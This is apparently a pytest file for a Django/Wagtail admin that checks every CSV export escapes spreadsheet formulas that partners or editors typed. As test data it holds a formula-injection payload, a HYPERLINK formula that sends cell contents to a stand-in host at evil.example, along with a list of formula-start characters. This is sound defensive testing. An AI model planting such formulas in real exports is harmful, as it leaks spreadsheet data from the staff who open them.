"""Every CSV the admin exports opens in a spreadsheet as text: no cell a partner or editor typed starts a formula.

A partner searches ``=HYPERLINK(...)``, an editor titles an asset ``=1+1``: a staff user who
downloads the report and opens it in Excel or LibreOffice must see that text, not run it.
Each export below is downloaded through its real admin view; the last test makes sure the
list covers every export of ours (Wagtail's own are covered by the same change: site history).
"""

import csv
import io
from collections.abc import Callable
from datetime import timedelta

from django.core.files.base import ContentFile
from django.test import Client
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone

from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

import pytest

from analytics.factories import DailyContentActivityFactory, PartnerScoreFactory
from certifications.exams import exam_attempt_start, exam_attempt_submit
from certifications.factories import CertificateFactory, CertificationFactory, TierRequirementFactory
from certifications.services import compliance_check
from cms.factories import AssetFactory, BulletinFactory, LinkAssetFactory, ProgramFactory, asset_with_file_text
from cms.hygiene.probe import Outcome, ProbeResult
from cms.models import FileScan
from cms.services.link_checks import link_check_record
from courses.factories import CourseFactory, QuestionBankFactory, QuestionFactory, QuizFactory, course_with
from courses.models import Enrollment, Lesson, Quiz
from courses.services.attempts import quiz_attempt_start, quiz_attempt_submit
from courses.services.enrollment import course_enroll, lesson_complete
from partners.factories import PartnerFactory, TierFactory, partner_user
from partners.services import api_token_issue
from tests.testapp.factories import BriefingFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for the price list")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def exported(client, url_name: str, **params) -> list[list[str]]:
    return csv_rows(client.get(reverse(url_name), {"export": "csv", **params}))


def assert_neutralised(rows: list[list[str]], text: str = FORMULA) -> None:
    """The text is there, as text: quoted with a leading ``'``, and no cell starts a formula."""
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + text.lower() in [cell.lower() for cell in cells], rows
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


# --- what each export needs to carry the formula ---------------------------------------------------


def search_through_the_api(client, text: str = FORMULA) -> None:
    """A partner searches the library through the partner API, which records the query."""
    user = partner_user()
    _token, plaintext = api_token_issue(user=user, name="test")
    response = client.get("/api/v1/search", {"q": text}, HTTP_AUTHORIZATION=f"Bearer {plaintext}")
    assert response.status_code == 200


def content_titled(factory, **fields) -> Callable:
    def create(client):
        factory(title=FORMULA, **fields)

    return create


def duplicate_file_of_an_asset_titled(client):
    AssetFactory(title=FORMULA, file=ContentFile(b"%PDF-1.4\n% twice\n", name="a.pdf"))
    AssetFactory(title="The other copy", file=ContentFile(b"%PDF-1.4\n% twice\n", name="b.pdf"))


def unreadable_file_of_an_asset_titled(client):
    asset_with_file_text(data=b"%PDF-1.4 not really", name="broken.pdf", title=FORMULA, live=True)


def broken_link_of_an_asset_titled(client):
    asset = LinkAssetFactory(title=FORMULA)
    link_check_record(asset_id=asset.pk, url=asset.external_url, result=ProbeResult(Outcome.BROKEN, 404, "HTTP 404"))


def enrolment_in_a_course_titled(client):
    course = CourseFactory(title=FORMULA)
    course_enroll(user=partner_user(), course=course)


def package_result_in_a_lesson_titled(client):
    from courses.models import PackageResult
    from elearning.models import Package

    course = course_with(title="Onboarding", lessons_per_module=(1,))
    lesson = Lesson.objects.get(module__course=course)
    lesson.title = FORMULA
    lesson.save()
    package = Package.objects.create(title="Security basics", standard="scorm12")
    learner = partner_user()
    enrollment = Enrollment.objects.create(user=learner, course=course)
    PackageResult.objects.create(
        user=learner, enrollment=enrollment, lesson=lesson, package=package, completed=True, score=90
    )


def quiz_answered_on_a_question(client):
    bank = QuestionBankFactory(name="Basics")
    QuestionFactory(bank=bank, text=FORMULA)
    quiz = QuizFactory(title="Check", bank=bank)
    course = course_with(title="Onboarding", lessons_per_module=(1,), module_quizzes=(quiz,))
    user = partner_user()
    course_enroll(user=user, course=course)
    for lesson in Lesson.objects.filter(module__course=course):
        lesson_complete(user=user, lesson=lesson)
    attempt, _created = quiz_attempt_start(user=user, quiz=quiz, course=course)
    answers = {
        question["id"]: [choice["id"] for choice in question["choices"] if not choice["correct"]][:1]
        for question in attempt.questions
    }
    quiz_attempt_submit(user=user, attempt_id=attempt.pk, answers=answers)


def exam_taken_for_a_certification_titled(client):
    """A partner passes a certification's exam taken on its own (``certifications.exams``)."""
    quiz = QuizFactory(title="Exam", answers_shown=Quiz.AnswersShown.NEVER)
    QuestionFactory(bank=quiz.bank)
    certification = CertificationFactory(title=FORMULA, exam=quiz, exam_standalone=True)
    user = partner_user()
    attempt, _created = exam_attempt_start(user=user, certification=certification)
    answers = {q["id"]: [c["id"] for c in q["choices"] if c["correct"]] for q in attempt.questions}
    exam_attempt_submit(user=user, certification=certification, attempt_id=attempt.pk, answers=answers)


def learner_named(client):
    partner_user(user__first_name=FORMULA, user__last_name="")


def package_attempt_at_a_package_titled(client):
    """A partner's attempt at a package (stored as the runtime keeps it) whose title is a formula."""
    from elearning.models import Package, PackageAttempt, PackageVersion

    package = Package.objects.create(title=FORMULA, standard="scorm12")
    version = PackageVersion.objects.create(
        package=package, number=1, archive="p.zip", sha256="0" * 64, size_bytes=1, file_count=1, schema_version="1.2"
    )
    PackageAttempt.objects.create(user=partner_user(), package=package, version=version, score_percent=80)


def partner_below_its_tier(client):
    gold = TierFactory(key="gold", name="Gold", rank=30)
    TierRequirementFactory(tier=gold, certification=CertificationFactory(title="Certified seller"), minimum_holders=1)
    PartnerFactory(name=FORMULA, tier=gold)


def compliance_alert_for_a_partner(client):
    partner_below_its_tier(client)
    compliance_check()


def certificate_revoked_with_a_reason(client):
    CertificateFactory(revoked_at=timezone.now(), revocation_reason=FORMULA)


def partner_named(client):
    PartnerFactory(name=FORMULA)


#: A formula that is also an e-mail address, as the sign-in form (staff's and partners') asks for one.
EMAIL_FORMULA = "=1+1@evil.example"


def sign_in_failed_as(client):
    """Someone types a formula as their e-mail address at the sign-in: the audit records it as typed."""
    response = Client().post("/accounts/login/", {"login": EMAIL_FORMULA, "password": "wrong", "next": "/admin/"})
    assert response.status_code == 200
    return EMAIL_FORMULA


def logged_change_of_an_asset(client):
    log(instance=AssetFactory(title=FORMULA), action="wagtail.edit")


def file_scan_of_an_asset_titled(client):
    """A file that may not be served (here: found infected) lists its asset's title in the report."""
    asset = AssetFactory(title=FORMULA)
    # What the upload's commit and the scan write.
    FileScan.objects.filter(name=asset.file.name).update(object_id=asset.pk, status="infected")


def days_from_today(days: int):
    return timezone.now() + timedelta(days=days)


def partner_scored_named(client):
    """A partner named with the formula has a scorecard (the worker's rollup, written directly)."""
    PartnerScoreFactory(partner=PartnerFactory(name=FORMULA))


def asset_titled_with_activity(client):
    """An asset titled with the formula was viewed by a partner and shown in their search results, never opened from
    them (the rollup's row, written directly)."""
    DailyContentActivityFactory(kind="asset", item_id=AssetFactory(title=FORMULA).pk, views=1, impressions=2)


EXPORTS: dict[str, Callable] = {
    # Analytics: partners' names in the scorecards, items' titles in content performance.
    "analytics_scorecards:ranking": partner_scored_named,
    "analytics_scorecards:exceptions": partner_scored_named,  # no activity recorded: an exception
    "analytics_content:items": asset_titled_with_activity,
    "analytics_content:not_found": asset_titled_with_activity,  # shown in search, never opened
    # Search analytics: what partners typed, as the search API recorded it.
    "search_reports:top_queries": search_through_the_api,
    "search_reports:no_results": search_through_the_api,
    # The content listings (snippets with the lifecycle).
    "wagtailsnippets_cms_asset:list": content_titled(AssetFactory),
    "wagtailsnippets_cms_program:list": content_titled(ProgramFactory),
    "wagtailsnippets_cms_bulletin:list": content_titled(BulletinFactory),
    "wagtailsnippets_courses_course:list": content_titled(CourseFactory),
    "wagtailsnippets_certifications_certification:list": content_titled(CertificationFactory),
    "wagtailsnippets_testapp_briefing:list": content_titled(BriefingFactory),  # a kind added by a new app
    # The content reports.
    "cms_reports:expiring_soon": content_titled(AssetFactory, live=True, expire_at=days_from_today(5)),
    "cms_reports:review_overdue": content_titled(AssetFactory, live=True, review_by=days_from_today(-3).date()),
    "cms_reports:expired_not_archived": content_titled(
        AssetFactory, live=False, expired=True, expire_at=days_from_today(-3)
    ),
    "cms_reports:not_downloaded": content_titled(AssetFactory, live=True),
    "cms_reports:duplicate_files": duplicate_file_of_an_asset_titled,
    "cms_reports:broken_links": broken_link_of_an_asset_titled,
    "cms_reports:file_text": unreadable_file_of_an_asset_titled,
    "cms_reports:file_scans": file_scan_of_an_asset_titled,
    # Learning and certification.
    "courses_reports:enrolments": enrolment_in_a_course_titled,
    "courses_reports:question_stats": quiz_answered_on_a_question,
    "courses_reports:package_results": package_result_in_a_lesson_titled,
    "certifications_reports:compliance": partner_below_its_tier,
    "certifications_reports:alerts": compliance_alert_for_a_partner,
    "certifications_reports:exams": exam_taken_for_a_certification_titled,
    "certifications_reports:exam_attempts": exam_taken_for_a_certification_titled,
    "certifications_reports:transcripts": learner_named,
    "elearning_reports:packages": package_attempt_at_a_package_titled,
    "accounts_reports:sign_ins": sign_in_failed_as,
    "wagtailsnippets_certifications_certificate:list": certificate_revoked_with_a_reason,
    "partners:index": partner_named,
    # One of Wagtail's own reports: the same change covers them.
    "wagtailadmin_reports:site_history": logged_change_of_an_asset,
}


@pytest.mark.parametrize("url_name", list(EXPORTS))
def test_every_csv_export_turns_formulas_into_text(superuser_client, url_name):
    text = EXPORTS[url_name](superuser_client) or FORMULA  # the text it stored, when not FORMULA itself
    assert_neutralised(exported(superuser_client, url_name), text)


def test_a_searched_hyperlink_reaches_a_staff_user_as_text(client, superuser_client):
    """The reported case: a partner searches a formula; an analyst downloads "Search: top queries"."""
    search_through_the_api(client)
    rows = exported(superuser_client, "search_reports:top_queries")
    assert rows[0][0] == "Query"
    [row] = rows[1:]
    assert row[0] == "'" + FORMULA.lower()
    assert row[1:4] == ["1", "1", "1"]  # searches, users, partners: numbers stay numbers


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_neutralised_and_ordinary_text_is_not(superuser_client, start):
    AssetFactory(title=f"{start}1+1 dangerous")
    AssetFactory(title="Price list -20% (Q3)")
    rows = exported(superuser_client, "wagtailsnippets_cms_asset:list")
    assert sorted(row[0] for row in rows[1:]) == sorted([f"'{start}1+1 dangerous", "Price list -20% (Q3)"])


def _export_url_names(patterns, namespace="") -> set[str]:
    names = set()
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}:{pattern.namespace}" if namespace and pattern.namespace else pattern.namespace
            names |= _export_url_names(pattern.url_patterns, inner or namespace)
            continue
        view_class = getattr(pattern.callback, "view_class", None)
        if not (view_class and issubclass(view_class, SpreadsheetExportMixin)):
            continue
        list_export = pattern.callback.view_initkwargs.get("list_export", view_class.list_export)
        if list_export and not view_class.__module__.startswith("wagtail."):
            names.add(f"{namespace}:{pattern.name}")
    return names


def test_the_list_above_covers_every_export_of_ours():
    names = _export_url_names(get_resolver().url_patterns)
    # A listing's "…_results" view (its filtered refresh) exports the same as the listing.
    listings = {name for name in names if not (name.endswith("_results") and name.removesuffix("_results") in names)}
    assert "search_reports:no_results" in listings and "partners:index" in listings
    assert listings <= set(EXPORTS)
